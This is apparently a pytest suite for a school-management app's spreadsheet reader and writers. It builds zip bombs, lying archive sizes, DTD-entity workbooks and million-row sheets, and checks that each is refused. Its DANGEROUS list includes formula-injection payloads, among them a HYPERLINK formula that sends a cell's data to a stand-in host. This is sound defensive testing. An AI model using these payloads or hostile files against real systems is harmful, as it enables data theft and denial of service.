"""The bounded table reader and the formula-safe writers (lms/core/spreadsheet.py); no app needed."""

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from lms.core.documents import DocumentError, ImportLimitError, ImportLimits, UnsafeXmlError
from lms.core.spreadsheet import (
    SpreadsheetError,
    formula_safe,
    read_table,
    shorten,
    write_csv,
    write_xlsx,
)
from tests import hostile_files as hostile

ROOT = Path(__file__).resolve().parents[2]
SMALL = ImportLimits(max_rows=5, max_columns=4, max_cell_chars=20, max_uncompressed_bytes=1024 * 1024)


def limit_of(call):
    with pytest.raises(ImportLimitError) as caught:
        call()
    assert caught.value.status == 422 and caught.value.code == "import_limit_exceeded"
    return caught.value.details["limit"]


def real_xlsx(rows):
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# --------------------------------------------------------------------------- what still reads


def test_a_real_workbook_reads_as_before():
    data = real_xlsx([["Họ tên", "Ngày sinh", "Khối"], ["Nguyễn Văn An", dt.datetime(2013, 9, 5), 6.0],
                      [None, None, None], ["Lê Thị Bình", "05/09/2013", 7]])
    headers, rows = read_table(data, "x.xlsx")
    assert headers == ["Họ tên", "Ngày sinh", "Khối"]
    assert rows == [(2, {"Họ tên": "Nguyễn Văn An", "Ngày sinh": dt.datetime(2013, 9, 5), "Khối": "6"}),
                    (4, {"Họ tên": "Lê Thị Bình", "Ngày sinh": "05/09/2013", "Khối": "7"})]


def test_a_lying_dimension_and_formatted_empty_rows_cost_nothing():
    """<dimension ref="A1:XFD1048576"> would make openpyxl pad every row to 16,384 cells; Excel
    keeps rows that only carry a format: neither counts against the limits."""
    body = hostile.sheet_rows([["Họ tên"], ["An"]]) + "".join(f'<row r="{n}" s="1" customFormat="1"/>'
                                                             for n in range(10, 40))
    started = time.perf_counter()
    headers, rows = read_table(_with_dimension(body, "A1:XFD1048576"), "x.xlsx", SMALL)
    assert time.perf_counter() - started < 2
    assert headers == ["Họ tên"] and rows == [(2, {"Họ tên": "An"})]
    assert read_table(hostile.xlsx(body), "x.xlsx", SMALL)[1] == [(2, {"Họ tên": "An"})]


def _with_dimension(body, ref):
    """A sheet whose <dimension> claims `ref`."""
    import zipfile

    data = hostile.xlsx(body)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = content.replace(b"<sheetData>", f'<dimension ref="{ref}"/><sheetData>'.encode())
            target.writestr(info.filename, content)
    return out.getvalue()


def test_csv_with_trailing_empty_cells_and_blank_lines_reads():
    data = "Họ tên,Lớp,,,,,,,,,\r\nAn,6A1,,,,,,,,,\r\n,,,,,,,,,,\r\n\r\n".encode("utf-8-sig")
    headers, rows = read_table(data, "x.csv", SMALL)
    assert headers == ["Họ tên", "Lớp"] and rows == [(2, {"Họ tên": "An", "Lớp": "6A1"})]


# --------------------------------------------------------------------------- the limits


def test_rows_are_limited_in_xlsx_and_csv():
    six = [["Họ tên"]] + [[f"HS {n}"] for n in range(6)]
    assert limit_of(lambda: read_table(real_xlsx(six), "x.xlsx", SMALL)) == "IMPORT_MAX_ROWS"
    assert limit_of(lambda: read_table(hostile.csv_bytes(six), "x.csv", SMALL)) == "IMPORT_MAX_ROWS"
    assert read_table(real_xlsx(six[:6]), "x.xlsx", SMALL)[1][-1] == (6, {"Họ tên": "HS 4"})  # 5 rows: fine


def test_one_far_away_row_is_refused_without_reading_up_to_it():
    body = hostile.sheet_rows([["Họ tên"], ["An"]]) + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'
    started = time.perf_counter()
    with pytest.raises(ImportLimitError) as caught:
        read_table(hostile.xlsx(body), "x.xlsx", SMALL)
    assert caught.value.details["line"] == 1048576 and time.perf_counter() - started < 1


def test_a_flood_of_empty_rows_is_refused():
    body = hostile.sheet_rows([["Họ tên"], ["An"]]) + "<row/>" * 100_000
    assert limit_of(lambda: read_table(hostile.xlsx(body), "x.xlsx", SMALL)) == "IMPORT_MAX_ROWS"


def test_columns_are_limited_in_xlsx_and_csv():
    wide = [["a", "b", "c", "d", "e"], [1, 2, 3, 4, 5]]
    assert limit_of(lambda: read_table(real_xlsx(wide), "x.xlsx", SMALL)) == "IMPORT_MAX_COLUMNS"
    assert limit_of(lambda: read_table(hostile.csv_bytes(wide), "x.csv", SMALL)) == "IMPORT_MAX_COLUMNS"


def test_a_row_of_many_copies_of_one_cell_is_refused():
    """openpyxl would build a dict per <c> of a row before handing the row over."""
    body = '<row r="1">' + '<c r="A1" t="inlineStr"><is><t>x</t></is></c>' * 20_000 + "</row>"
    limits = ImportLimits(max_uncompressed_bytes=50 * 1024 * 1024)
    assert limit_of(lambda: read_table(hostile.xlsx(body), "x.xlsx", limits)) == "IMPORT_MAX_COLUMNS"


def test_cell_length_is_limited_everywhere():
    long = "x" * 21
    inline = hostile.xlsx(hostile.sheet_rows([["Họ tên"], [long]]))
    shared = real_xlsx([["Họ tên"], [long]])  # openpyxl writes shared strings
    with pytest.raises(ImportLimitError) as caught:
        read_table(inline, "x.xlsx", SMALL)
    assert caught.value.details == {"limit": "IMPORT_MAX_CELL_CHARS", "max": 20, "cell": "A2"}
    assert limit_of(lambda: read_table(shared, "x.xlsx", SMALL)) == "IMPORT_MAX_CELL_CHARS"
    assert limit_of(lambda: read_table(hostile.csv_bytes([["a"], [long]]), "x.csv", SMALL)) == \
        "IMPORT_MAX_CELL_CHARS"
    # Past the csv module's own 128 KiB field cap (a 500 before).
    huge = hostile.csv_bytes([["a"], ["y" * 200_000]])
    assert limit_of(lambda: read_table(huge, "x.csv")) == "IMPORT_MAX_CELL_CHARS"


def test_too_many_shared_strings_are_refused_before_openpyxl_lists_them():
    strings = ('<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               + "<si><t>ab</t></si>" * 100 + "</sst>")
    data = hostile.xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', strings)
    with pytest.raises(ImportLimitError) as caught:
        read_table(data, "x.xlsx", SMALL)
    assert caught.value.details["max"] == 6 * 4


def test_inflated_size_is_limited_by_what_members_declare_and_what_they_inflate_to():
    bomb = hostile.shared_string_bomb(3)
    assert limit_of(lambda: read_table(bomb, "x.xlsx", SMALL)) == "IMPORT_MAX_UNCOMPRESSED_MB"
    # The same archive claiming its shared strings are 100 bytes: refused as broken, not read.
    lying = hostile.lying_sizes(bomb, "xl/sharedStrings.xml", 100)
    with pytest.raises(DocumentError) as caught:
        read_table(lying, "x.xlsx", SMALL)
    assert caught.value.status == 415


@pytest.mark.parametrize("part", ["sheet", "shared"])
def test_a_dtd_is_refused_with_422(part):
    with pytest.raises(UnsafeXmlError) as caught:
        read_table(hostile.dtd_entity_xlsx(part), "x.xlsx")
    assert caught.value.status == 422 and caught.value.code == "xml_dtd_forbidden"


def test_a_dtd_in_utf16_or_in_any_part_is_refused():
    dtd = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16")
    data = hostile.xlsx(hostile.sheet_rows([["a"], ["b"]]), extra={"docProps/custom.xml": dtd})
    with pytest.raises(UnsafeXmlError):
        read_table(data, "x.xlsx")


def test_broken_workbooks_are_415_not_500():
    good = real_xlsx([["a"], ["b"]])
    broken_xml = hostile.xlsx('<row r="1"><c r="A1"><v>1</v></c></row><row')  # cut in the middle
    bad_reference = hostile.xlsx('<row r="x"><c r="A1"><v>1</v></c></row>')
    broken_after_the_data = hostile.xlsx(hostile.sheet_rows([["a"], ["b"]]) + '<row r="9"/><row r=>')
    for data in (good[:len(good) // 2], broken_xml, bad_reference, broken_after_the_data,
                 b"PK\x03\x04" + b"\x00" * 100):
        with pytest.raises(DocumentError) as caught:  # SpreadsheetError is one
            read_table(data, "x.xlsx")
        assert caught.value.status == 415
    with pytest.raises(SpreadsheetError):
        read_table(b"\x89PNG\r\n", "x.xlsx")


def test_hostile_files_cost_little_time_and_memory(tmp_path):
    """Each file is read in a fresh interpreter that reports its peak memory growth: the bomb
    inflates to 300 MB and the sheet has a million rows, yet neither grows it by 60 MB."""
    files = {
        "bomb.xlsx": hostile.shared_string_bomb(300),
        "million.xlsx": hostile.million_rows(),
        "field.csv": hostile.csv_bytes([["Họ tên"], ["x" * 5_000_000]]),
        "dtd.xlsx": hostile.dtd_entity_xlsx("shared"),
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    script = """
import json, resource, sys, time
from lms.core.errors import DomainError
from lms.core.spreadsheet import read_table
import openpyxl, defusedxml.ElementTree  # imported before the baseline, as in a running server
results = {}
for path in sys.argv[1:]:
    data = open(path, "rb").read()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    try:
        read_table(data, path)
        outcome = "read"
    except DomainError as error:
        outcome = (error.status, error.details.get("limit") or error.code)
    results[path.rsplit("/", 1)[-1]] = {
        "outcome": outcome, "seconds": time.perf_counter() - started,
        "grown_mb": (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024}
print(json.dumps(results))
"""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run([sys.executable, "-c", script, *(str(tmp_path / n) for n in files)], env=env,
                          capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert done.returncode == 0, done.stderr[-2000:]
    results = json.loads(done.stdout)
    assert results["bomb.xlsx"]["outcome"] == [422, "IMPORT_MAX_UNCOMPRESSED_MB"]
    assert results["million.xlsx"]["outcome"] == [422, "IMPORT_MAX_ROWS"]
    assert results["field.csv"]["outcome"] == [422, "IMPORT_MAX_CELL_CHARS"]
    assert results["dtd.xlsx"]["outcome"] == [422, "xml_dtd_forbidden"]
    for name, result in results.items():
        assert result["seconds"] < 3 and result["grown_mb"] < 60, (name, result)


# --------------------------------------------------------------------------- writing


DANGEROUS = ["=1+1", "+1", "-1+2", "@SUM(A1:A3)", "\t=1", "\r=1", '=HYPERLINK("http://x/?"&D2,"Bấm")']


def test_formula_safe():
    for value in DANGEROUS:
        assert formula_safe(value) == "'" + value
    assert formula_safe("Nguyễn Văn An") == "Nguyễn Văn An"
    assert formula_safe("\x01=1") == "'=1"  # a control character cannot hide the formula
    assert formula_safe(-5) == -5 and formula_safe(None) is None
    assert formula_safe(dt.date(2013, 9, 5)) == dt.date(2013, 9, 5)


def test_write_xlsx_never_writes_a_formula():
    data = write_xlsx(["=Tên", "Giá trị"], [[value, -5] for value in DANGEROUS] + [["Bình\x07", 1.5]],
                      title="Mật khẩu")
    sheet = load_workbook(io.BytesIO(data)).active  # not read-only: data_type is kept
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sheet["A1"].value == "'=Tên" and sheet.title == "Mật khẩu"
    assert [sheet.cell(row=n, column=1).value for n in range(2, 2 + len(DANGEROUS))] == \
        ["'" + value for value in DANGEROUS]
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"  # numbers stay numbers
    assert sheet.cell(row=2 + len(DANGEROUS), column=1).value == "Bình"


def test_write_csv_quotes_formulas():
    data = write_csv(["Tên", "Số"], [[value, -5] for value in DANGEROUS] + [[None, "ok"]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Tên", "Số"]
    assert [row[0] for row in rows[1:-1]] == ["'" + value for value in DANGEROUS]
    assert [row[1] for row in rows[1:-1]] == ["-5"] * len(DANGEROUS)
    assert rows[-1] == ["", "ok"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row[:1])


def test_shorten():
    assert shorten("abc", 5) == "abc" and shorten("abcdef", 5) == "abcd…" and shorten(None) == ""
    assert len(shorten("x" * 1000)) == 80
